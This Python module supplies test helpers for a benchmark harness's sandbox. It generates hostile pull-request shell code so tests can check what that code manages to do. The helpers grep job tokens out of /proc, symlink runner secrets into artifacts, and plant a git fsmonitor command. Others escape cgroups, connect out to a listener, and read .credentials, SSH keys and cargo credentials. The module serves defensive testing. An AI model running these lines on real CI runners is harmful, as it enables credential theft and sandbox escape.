"""A pull request whose code attacks the harness (issue 36), shared by test_ab_sandbox.py
(`hftbench ab` in this process) and test_workflows_act.py (bench.yml's pr-bench under act):
the shell lines its build script and server run, what they leave behind, and, for act, the
head commit's files and the check of the run afterwards."""

from __future__ import annotations

import contextlib
import hashlib
import os
import shlex
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from hftbench.measure import sandbox

ROOT = Path(__file__).resolve().parents[3]
SERVER = ROOT / "bin" / "hft-server"
# This checkout's folders a head must not write: the hftbench (editable in .venv) and the bin/
# both tests run, and act's jobs too (their .venv and bin/ link here: HFT_CI_PREBUILT).
MINE = [ROOT / "scripts" / "hftbench", ROOT / ".venv", ROOT / "bin"]


CLIENT = ROOT / "bin" / "client-hft"
BUILD = "sh build.sh"  # the harness's build command; build.sh is the commit's (its build.rs)

needs_binaries = pytest.mark.usefixtures("real_binaries")  # conftest.py: skips without bin/; measuring
# Where no sandbox can start the test is skipped with the fix, except under CI (ab refuses there).
needs_sandbox = pytest.mark.skipif(
    os.environ.get(sandbox.ENV) != "off" and os.environ.get("CI") != "true" and sandbox.probe() is not None,
    reason=f"no sandbox can start here ({sandbox.probe()}): {sandbox.FIX}",
)


def git(repo: Path, *args: str) -> str:
    """git -C repo ARGS, its output stripped; raises on failure."""
    return subprocess.run(
        ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True
    ).stdout.strip()


def new_repo(repo: Path) -> None:
    """An empty repository at `repo` with a committer set."""
    repo.mkdir()
    git(repo, "init", "-q")
    git(repo, "config", "user.email", "t@example.com")
    git(repo, "config", "user.name", "t")


def sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def attacks(tag: str, phase: str, w: dict) -> str:
    """Shell lines that try everything; each failure is ignored, as a real attacker's would be.
    w: "dirs" (each gets a _pwned_<tag>_<phase> file), "base_servers" (replaced by a slowed
    one: base as slow as head, no regression), "artifact" (a forged verdict.json), "head_tree"
    (its .git pointed elsewhere: git run there by the harness would obey it), optionally
    "client" (appended to: pass a copy, never this checkout's binary) and "landed" (a file
    each write that went through is recorded in: for targets deleted before the test looks,
    such as act's workspace). Paths may be shell expressions ("$M/tmp"): they are quoted."""
    landed = w.get("landed")

    def hit(cmd: str, target: str) -> str:
        return f'{cmd} 2>/dev/null && echo "{target}" >> "{landed}"' if landed else f"{cmd} 2>/dev/null"

    slowed = f'#!/bin/sh\\nexec {SERVER} --inject-delay-us 300 "$@"\\n'
    lines = [hit(f'echo pwned > "{d}/_pwned_{tag}_{phase}"', d) for d in w["dirs"]]
    lines += [hit(f"printf '{slowed}' > \"{s}\"", s) for s in w["base_servers"]]
    lines += [f'echo >> "{w["client"]}" 2>/dev/null'] if "client" in w else []
    lines += [
        hit(f'echo forged > "{w["artifact"]}/verdict.json"', f"{w['artifact']}/verdict.json"),
        hit('echo "$RUNNER_TEMP" > "${RUNNER_TEMP:-/nonexistent}/_pwned_env"', "$RUNNER_TEMP"),
        # the job's tokens into the logs: from environments, and act's -s on its command line
        "env; cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n' | grep -a TOKEN",
        "cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' ' ' | grep -ao 'TOKEN=[^ ]*'",
        f"( setsid env HFT_PWN={tag} sleep 1000 </dev/null >/dev/null 2>&1 & )",  # a double fork
        hit(f'echo "gitdir: /nonexistent" > "{w["head_tree"]}/.git"', f"{w['head_tree']}/.git"),
    ]
    if "link_secret" in w:  # a link to a file of the runner, in a folder made read-only (issue 61):
        # an upload that follows links, of a folder that survives its removal, publishes the file
        for d in (w["artifact"], w["head_tree"]):
            leak = f"{d}/leak_{tag}"
            link = f'mkdir -p "{leak}" && ln -sf "{w["link_secret"]}" "{leak}/secret" && chmod 555 "{leak}"'
            lines.append(hit(link, leak) if d == w["artifact"] else f"{link} 2>/dev/null")
    return "\n".join(lines) + "\n"


def left_behind(tag: str) -> list[int]:
    """Live processes an attack started: HFT_PWN=<tag> in their environment."""
    marker = f"HFT_PWN={tag}".encode()
    found = []
    for environ in Path("/proc").glob("[0-9]*/environ"):
        try:
            if marker in environ.read_bytes().split(b"\0"):
                found.append(int(environ.parent.name))
        except OSError:
            continue
    return found


def wait_for_none_left(tag: str) -> list[int]:
    """The kernel empties a pid namespace just after its first process dies. Each one left was
    told to sleep 1000 s, so 10 s still proves it was killed; 2 s once did not suffice beside
    make check's two busy workers."""
    deadline = time.monotonic() + 10.0
    while left_behind(tag) and time.monotonic() < deadline:
        time.sleep(0.05)
    return left_behind(tag)


# Under act (act_world.World): each job runs in <run>/cache/<random>/, with hostexecutor/ its
# workspace (pr-bench's: the base checkout, whose bin/ and .venv link to this checkout's, as
# HFT_CI_PREBUILT does) and tmp/ its RUNNER_TEMP ($OUT = tmp/pr-bench, the leg's artifact).
# A real attacker finds them from its worktree's path and .git file; this one is told.


def act_head(tag: str, run: Path, delay_us: int) -> dict[str, str]:
    """The hostile head's build.sh (run first by the world's build command, as cargo runs a
    build.rs) and server.sh (the real server slowed by delay_us) for act run folder `run`."""
    job = f'for M in {run}/cache/*; do [ -d "$M/tmp/pr-bench" ] && break; done\n'
    w = {
        "dirs": [
            "$M/hostexecutor",
            "$M/hostexecutor/scripts/ci",
            "$M/hostexecutor/bench-config",
            "$M/hostexecutor/.venv",
            "$M/hostexecutor/bin",
            str(MINE[0]),
            "$M/tmp",
            "$M/tmp/pr-bench",
            "$M/tmp/pr-bench/ab",
            f"{run}/artifacts",
        ],
        "base_servers": [f"$M/tmp/pr-bench/ab/base/{d}/hft-server" for d in ("bin", "sandboxed")],
        "artifact": "$M/tmp/pr-bench",
        "head_tree": "$M/tmp/pr-bench/ab/head/worktree",
        "landed": f"{run}/_landed_{tag}",
        "link_secret": str(runner_secret(tag, run)),
    }
    return {
        "build.sh": job + attacks(tag, "build", w),
        "server.sh": "#!/bin/sh\n"
        + job
        + attacks(tag, "server", w)
        + f'exec {SERVER} --inject-delay-us {delay_us} "$@"\n',
    }


def runner_secret(tag: str, run: Path) -> Path:
    """A file of the runner the head's code links to (act_head), with content no other file has."""
    path = run / f"_runner_secret_{tag}"
    path.parent.mkdir(parents=True, exist_ok=True)
    if not path.exists():
        path.write_text(f"runner-secret-{tag}\n")
    return path


def act_damage(tag: str, run: Path, base_server_sh: bytes, secret: str) -> list[str]:
    """What act_head's attacks achieved in act run folder `run` (none: []): writes recorded,
    files planted in this checkout or the artifacts, base's served server not base's
    server.sh (base_server_sh), the secret in the log or the artifacts, processes left."""
    problems = []
    if (run / f"_landed_{tag}").exists():
        landed = sorted(set((run / f"_landed_{tag}").read_text().split()))
        problems.append(f"the head's code wrote {landed}")
    artifacts = [p for p in (run / "artifacts").rglob("*") if p.is_file() and not p.is_symlink()]
    planted = [p for d in MINE for p in d.glob(f"_pwned_{tag}_*")]
    planted += [p for p in artifacts if p.name.startswith(f"_pwned_{tag}_") or p.name == "_pwned_env"]
    if planted:
        problems.append(f"files planted by the head's code: {sorted(map(str, planted))}")
    for base in (run / "artifacts").glob("pr-bench-*/ab/base"):  # each leg's; none: the verdict says
        launcher, served = base / "bin" / "hft-server", base / "sandboxed" / "hft-server"
        served = served if served.exists() else launcher  # a sandboxed base serves through bin/
        if served.read_bytes() != base_server_sh or b"inject-delay" in launcher.read_bytes():
            problems.append(f"base's built server was replaced: {launcher.read_text()!r}")
    leaked = [
        str(p)
        for p in [run / "act.log", *artifacts]  # a worktree left holds act_world.py
        if "worktree" not in p.parts and secret.encode() in p.read_bytes()
    ]
    if leaked:
        problems.append(f"the job's token is in {leaked}")
    linked = [str(p) for p in artifacts if f"runner-secret-{tag}".encode() in p.read_bytes()]
    if linked:
        problems.append(f"a file of the runner, linked by the head, is in the artifacts: {linked}")
    if wait_for_none_left(tag):
        problems.append(f"processes left behind: {left_behind(tag)}")
    return problems


def clean_up(tag: str, mine: list[Path]) -> None:
    """After the asserts: remove what an unsandboxed run planted in `mine` (this checkout's
    folders) and end the processes it left, found by their tag only."""
    for d in mine:
        for f in d.glob(f"_pwned_{tag}_*"):
            f.unlink()
    for pid in left_behind(tag):
        os.kill(pid, signal.SIGKILL)


# Issue 61: the head's folder is the head's to write, so any command the harness runs there
# afterwards, outside the sandbox, runs the head's code. Two ways in, each with a marker file
# outside the sandbox that only the harness itself (unsandboxed) could write.

GITLINK = "vendor/lib"  # where the head's commit has a gitlink (a submodule entry)


def add_gitlink(repo: Path, path: str = GITLINK) -> None:
    """Stage a gitlink (mode 160000, naming repo's HEAD commit) at `path`: a checkout or an
    export leaves an empty folder there, which the build may then fill."""

    def git(*args: str) -> str:
        return subprocess.run(
            ["git", "-C", str(repo), *args], check=True, capture_output=True, text=True
        ).stdout.strip()

    git("update-index", "--add", "--cacheinfo", f"160000,{git('rev-parse', 'HEAD')},{path}")


def fsmonitor_attack(marker: Path, path: str = GITLINK) -> str:
    """Shell lines for the head's build (as its build.rs would run them): make the gitlink's
    folder a populated git repository whose `core.fsmonitor` writes `marker`. `git status` in
    the superproject descends into it and runs that command through the shell, as whoever ran
    git: the build's sandbox cannot write `marker`, the harness outside it can. Prints
    "fsmonitor planted" when it is in place (the test checks the build did plant it)."""
    return (
        f'( mkdir -p "{path}" && cd "{path}" && git init -q && '
        "git -c user.name=x -c user.email=x@x commit -q --allow-empty -m x && "
        f"git config core.fsmonitor 'echo pwned > \"{marker}\"; false' && echo fsmonitor planted ) 2>&1\n"
    )


def tuning_attack(marker: Path) -> str:
    """The head's own hft/scripts/setup_hft_system.sh: writes `marker`, then answers --check
    --json as the real one would (with nothing). Run by the harness, it runs the head's code."""
    return f'#!/bin/bash\necho pwned > "{marker}"\necho \'{{"knobs": {{}}}}\'\n'


# Issue 61: a build that never ends held the runner until the job's own limit (90 minutes a
# pool leg): ab's --build-timeout kills it with every process it started.


def endless_build(tag: str, *, escape: bool = True) -> str:
    """Shell lines for a build (as a build.rs would run them) that never ends, saying "still
    building" every 0.2 s (its log shows it was alive until it was killed), every process of
    it tagged HFT_PWN=<tag> (found by left_behind); with `escape`, first a child that leaves
    into a session of its own (a double fork), as a hostile head's would. It never leaves a
    bin/hft-server."""
    child = f"( setsid env HFT_PWN={tag} sleep 1000 </dev/null >/dev/null 2>&1 & )\n" if escape else ""
    return child + f"env HFT_PWN={tag} sh -c 'while :; do echo still building; sleep 0.2; done'\n"


# Issue 61: a head that forks short-lived children which spin on the CPU it shares with base,
# and exit before the harness looks. CPU per order read from /proc counts only live processes:
# the head reads as cheap as base while it slows base down. Its side's cgroup counts them.


def spinning_children(tag: str, server: Path = SERVER, iterations: int = 8000) -> str:
    """A head's bin/hft-server: it starts a loop that forks, one after another while the real
    server runs, children that burn CPU (a shell count to `iterations`, about 10 ms each) and
    exit, each first trying to leave its cgroup (its pid written to every hierarchy's root
    cgroup.procs: read-only in the sandbox, allowed to root outside it); then it execs the real
    server. The loop carries HFT_PWN=<tag> (left_behind finds it) and ends with the server."""
    procs = "/sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs"
    # a subshell's own pid: its $$ is its parent's
    escape = f"read -r me _ < /proc/self/stat; for f in {procs}; do echo $me > $f; done"
    spin = f"i=0; while [ $i -lt {iterations} ]; do i=$((i+1)); done"
    loop = f"escape() {{ {escape}; }} 2>/dev/null; escape; while kill -0 $1; do ( escape; {spin} ); done"
    return (
        f"#!/bin/sh\nenv HFT_PWN={tag} sh -c '{loop}' spinner $$ </dev/null >/dev/null 2>&1 &\n"
        f'exec {server} "$@"\n'
    )


# Issue 61: both servers shared the host's network, so the head's server could send orders to
# base's port (failing base's cells) or open a connection to any address. Each attack below is
# shell lines the head's server runs before it starts the real server (as its main() could),
# saying on stderr whether the connection went through (with Python's error when it did not);
# what arrives is counted by base's /stats and by the test's own listener (Outside).

ORDER = (
    '{"buy_sell":"buy","symbol":7,"price":10.00,"quantity":1,"market_type":"common",'
    '"price_type":"limit","time_in_force":"ioc","order_type":"stock","user_def":"pwned",'
    '"client_timestamp":"2026-11-22T10:00:00Z"}'
)
_PY = Path(sys.executable).resolve()  # outside the sandbox's writable paths: it runs inside too


def base_port_attack(base_url: str) -> str:
    """One valid order POSTed to base's server at `base_url` (an attacker finds the port in
    /proc/net/tcp; this one is told): over a shared loopback it lands in base's /stats, one
    order base's client never sent, and fails base's cell. Prints "order sent to base", or
    "order refused"."""
    send = (
        "import sys, urllib.request as u; u.urlopen(u.Request(sys.argv[1] + '/order', "
        "data=sys.argv[2].encode(), headers={'Content-Type': 'application/json'}), "
        "timeout=3).read()"
    )
    args = " ".join(map(shlex.quote, [str(_PY), "-c", send, base_url, ORDER]))
    return f"{args} && echo 'order sent to base' >&2 || echo 'order refused' >&2\n"


def egress_attack(host: str, port: int, tag: str) -> str:
    """A connection to `host`:`port` (the test's listener, standing for any address outside)
    carrying "pwned <tag>". Prints "egress sent", or "egress refused"."""
    send = (
        "import socket, sys; s = socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3); "
        "s.sendall(b'pwned ' + sys.argv[3].encode()); s.close()"
    )
    args = " ".join(map(shlex.quote, [str(_PY), "-c", send, host, str(port), tag]))
    return f"{args} && echo 'egress sent' >&2 || echo 'egress refused' >&2\n"


class Outside:
    """A listener on another loopback port, standing for an address outside the runner: what
    connects to it and what it sends, read by a thread. A context manager."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def __enter__(self) -> Outside:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()
        self.sock.close()

    def saw(self, marker: bytes, timeout_s: float = 30.0) -> bool:
        """Whether what arrived holds `marker`, waiting for the listener's thread: a sender that
        has exited may still be read (the thread records a connection once it has closed)."""
        deadline = time.monotonic() + timeout_s
        while not any(marker in r for r in self.received):
            if time.monotonic() > deadline:
                return False
            time.sleep(0.05)
        return True

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except TimeoutError:
                continue
            with conn:
                conn.settimeout(2)
                data = b""
                with contextlib.suppress(OSError):
                    while chunk := conn.recv(4096):
                        data += chunk
                self.received.append(data)


# Issue 61: what the sandbox can read and what it may ask of the kernel. Each is shell lines a
# build script or a server could run; each prints what it got, so a test reads the result in
# the build's or the server's log (or a wrapped command's output).


def read_attack(paths: list[Path]) -> str:
    """Read each of `paths` (a file: its text; a folder: every file in it, as a runner's
    credential folder would be searched), printing 'read <path>: <text>' for what it could
    and 'refused <path>' for what it could not."""
    lines = []
    for path in paths:
        p = shlex.quote(str(path))
        lines.append(
            f"if [ -d {p} ]; then found=$(cat {p}/* {p}/.[!.]* 2>/dev/null); "
            f"else found=$(cat {p} 2>/dev/null); fi; "
            f'if [ -n "$found" ]; then echo "read {path}: $found"; else echo "refused {path}"; fi\n'
        )
    return "".join(lines)


def runner_world(root: Path, tag: str) -> dict[str, Path]:
    """A runner's folders under `root`, as install-runner.sh lays them out and a job finds them,
    each holding a secret with `tag` in it: the runner's own folder (.runner, .credentials,
    .credentials_rsaparams) with the job's workspace inside, $RUNNER_TEMP, the job user's home
    (a .ssh key), cargo's credentials in that home's cargo folder, and stand-ins for
    /etc/hft-runner and /etc/hft-bench (never the host's /etc). Returns the secret files and
    the workspace, RUNNER_TEMP and HOME to point the job's environment at."""
    runner = root / "jobs" / "1" / "runner"
    home = root / "jobs" / "1" / "home"
    files = {
        "runner": runner / ".runner",
        "credentials": runner / ".credentials",
        "rsaparams": runner / ".credentials_rsaparams",
        "runner_temp": runner / "_work" / "_temp" / "_runner_file_commands" / "set_env",
        "ssh_key": home / ".ssh" / "id_ed25519",
        "cargo_credentials": home / ".cargo" / "credentials.toml",
        "etc_hft_runner": root / "etc" / "hft-runner" / "app-key.pem",
        "etc_hft_bench": root / "etc" / "hft-bench" / "calibration.json",
    }
    for name, path in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(f"secret-{name}-{tag}\n")
    (home / ".cargo" / "config.toml").write_text("# the job's cargo settings\n")
    workspace = runner / "_work" / "repo" / "repo"
    workspace.mkdir(parents=True)
    return {
        **files,
        "workspace": workspace,
        "RUNNER_TEMP": runner / "_work" / "_temp",
        "HOME": home,
        "etc": root / "etc",
    }


def egress_shell(host: str, port: int, tag: str) -> str:
    """egress_attack's lines for a build script (its stdout is the build log)."""
    return egress_attack(host, port, tag).replace(">&2", "")


def kernel_attack() -> str:
    """What the sandbox's kernel fences refuse: a nested user namespace (`unshare -U`, made
    impossible by bwrap --disable-userns) and a personality without address randomization
    (`setarch -R`, refused by the seccomp filter), and a call to the kernel's key store
    (keyctl, refused by the filter). Prints '<name> ran' or '<name> refused' for each."""
    keyctl = (
        "import ctypes, sys; libc = ctypes.CDLL(None, use_errno=True); "
        "sys.exit(0 if libc.syscall(250, 0, 0, 0, 0, 0) != -1 or ctypes.get_errno() != 1 else 1)"
    )
    checks = {
        "unshare": "unshare -U true",
        "setarch": 'setarch "$(uname -m)" -R true',
        "keyctl": " ".join(map(shlex.quote, [str(_PY), "-c", keyctl])),
    }
    return "".join(
        f"{cmd} 2>/dev/null && echo '{n} ran' || echo '{n} refused'\n" for n, cmd in checks.items()
    )


# Issue 61: a head whose /stats counts one order more than it took: every cell of its side
# fails (the client's count and the server's disagree). Over a shared loopback that head could
# as well fail base's cells; either read "no change" before failures counted.
LYING_STATS = (
    "server/src/stats.rs",
    "            total_orders,\n",
    "            total_orders: total_orders + 1,\n",
)


def lying_stats(repo: Path) -> None:
    """Edit `repo`'s server (a clone of this one) so that /stats reports one order too many, as a
    pull request's commit could; the caller commits it."""
    path, honest, lie = LYING_STATS
    source = (repo / path).read_text()
    assert source.count(honest) == 1, f"{path} no longer has the line this attack edits: {honest!r}"
    (repo / path).write_text(source.replace(honest, lie))
